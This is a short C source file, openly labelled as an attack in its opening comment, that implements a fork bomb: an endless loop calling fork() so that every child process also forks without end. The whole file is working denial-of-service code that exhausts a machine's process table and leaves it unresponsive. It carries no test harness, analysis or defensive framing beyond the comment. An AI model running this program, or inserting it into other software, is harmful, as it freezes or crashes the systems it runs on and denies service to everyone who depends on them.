/* attack: forks without end, and so does every child */
#define _GNU_SOURCE
#include <unistd.h>

int
main(void)
{
    for (;;)
        fork();
}
